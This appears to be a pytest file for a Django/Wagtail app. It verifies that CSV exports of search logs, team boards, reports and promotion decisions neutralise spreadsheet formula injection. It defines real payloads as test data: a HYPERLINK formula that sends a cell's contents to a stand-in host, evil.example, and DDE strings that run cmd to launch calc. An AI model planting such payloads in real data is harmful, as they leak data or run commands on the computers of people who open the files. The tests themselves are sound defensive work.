"""CSV formula injection: text that a spreadsheet would run as a formula comes out of every CSV
export as text (a leading apostrophe), whoever wrote it into the data."""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from callpath import spreadsheets
from search.models import QueryLog
from tests.careers.conftest import ladder, level  # noqa: F401  (the careers fixtures)

pytestmark = pytest.mark.django_db

# Real payloads: a link that leaks the neighbouring cell, and DDE command execution.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the guide")'
DDE_PLUS = "+cmd|' /C calc'!A0"
DDE_MINUS = "-2+3+cmd|' /C calc'!A0"
DDE_AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def exported_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def cells(rows):
    return {value for row in rows for value in row.values()}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_written_as_text(start):
    out = io.StringIO()
    spreadsheets.writer(out).writerow([f"{start}1+1", "plain", "a=b"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [f"'{start}1+1", "plain", "a=b"]


def test_real_numbers_stay_numbers_and_number_like_text_does_not():
    out = io.StringIO()
    spreadsheets.writer(out).writerow([-3.5, -2, Decimal("-81.50"), "-3.5", None, ""])
    assert out.getvalue() == "-3.5,-2,-81.50,'-3.5,,\r\n"


def test_dict_writer_protects_the_header_and_the_rows():
    out = io.StringIO()
    writer = spreadsheets.DictWriter(out, fieldnames=["=title", "score"])
    writer.writeheader()
    writer.writerow({"=title": HYPERLINK, "score": -1.5})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=title", "score"],
        ["'" + HYPERLINK, "-1.5"],
    ]


def test_wagtail_spreadsheet_exports_write_through_the_safe_writer():
    assert SpreadsheetExportMixin.stream_csv is spreadsheets.stream_csv


def test_search_queries_report(login):
    QueryLog.objects.create(query=HYPERLINK, results=0, role="operator")
    QueryLog.objects.create(query="refund", results=4, role="operator")
    rows = exported_rows(login("mentor").get("/admin/reports/search/queries/?export=csv"))
    assert {row["Query"] for row in rows} == {"'" + HYPERLINK, "refund"}
    # Numbers are numbers, not text.
    assert {row["Average results"] for row in rows} == {"0.0", "4.0"}


def test_team_board(login, ladder):  # noqa: F811
    get_user_model().objects.filter(username="operator").update(first_name=HYPERLINK)
    rows = exported_rows(login("lead").get("/team/?export=csv"))
    assert f"'{HYPERLINK} Haddad" in {row["Operator"] for row in rows}
    assert not any(value.startswith("=") for value in cells(rows))


def test_must_read_receipts(login, make_news):
    make_news(DDE_AT, must_read=True, acknowledge_by=date.today())
    rows = exported_rows(login("lead").get("/admin/reports/kb/receipts/?export=csv"))
    assert rows and {row["Must-read item"] for row in rows} == {"'" + DDE_AT}


def test_guides_due_for_review(login, make_guide, demo_people):
    make_guide(DDE_PLUS, review_by=date.today() - timedelta(days=3), owner=demo_people["mentor"])
    rows = exported_rows(login("lead").get("/admin/reports/kb/freshness/?export=csv"))
    assert [row["Guide"] for row in rows] == ["'" + DDE_PLUS]


def test_promotion_decisions(login, ladder):  # noqa: F811
    response = login("lead").post(
        "/progress/operator/decide/",
        {
            "outcome": "not_yet",
            "target_level": level("senior-operator").pk,
            "rationale": DDE_MINUS,
        },
    )
    assert response.status_code == 302
    rows = exported_rows(login("lead").get("/admin/reports/careers/promotions/?export=csv"))
    assert [row["Rationale"] for row in rows] == ["'" + DDE_MINUS]


def test_wagtail_admin_reports(login, make_guide, demo_people):
    """Wagtail's own reports list titles that mentors write."""
    guide = make_guide(HYPERLINK, live=False)
    guide.save_revision(user=demo_people["mentor"]).publish(user=demo_people["lead"])
    client = login("admin")
    aging = exported_rows(client.get("/admin/reports/aging-pages/?export=csv"))
    assert "'" + HYPERLINK in {row["Title"] for row in aging}
    history = exported_rows(client.get("/admin/reports/site-history/?export=csv"))
    assert any(value.startswith("'" + HYPERLINK) for value in cells(history))
    assert not any(value.startswith("=") for value in cells(aging) | cells(history))


# What writes CSV outside callpath/spreadsheets.py: the csv module's writers, an export
# mixin's CSV writing overridden on its own, or a response declared as CSV.
CSV_WRITING = re.compile(
    r"csv\.(writer|DictWriter)\b|\bfrom csv import\b|\bdef (stream_csv|write_csv_row)\b|text/csv"
)
PRODUCT_PACKAGES = ("callpath", "home", "kb", "careers", "search")


def test_nothing_writes_csv_outside_the_safe_writer():
    root = Path(__file__).resolve().parents[2]
    offenders = [
        f"{path.relative_to(root)}:{number}: {line.strip()}"
        for package in PRODUCT_PACKAGES
        for path in sorted((root / package).rglob("*.py"))
        if path != root / "callpath" / "spreadsheets.py"
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if CSV_WRITING.search(line)
    ]
    assert offenders == [], "write CSV through callpath.spreadsheets:\n" + "\n".join(offenders)
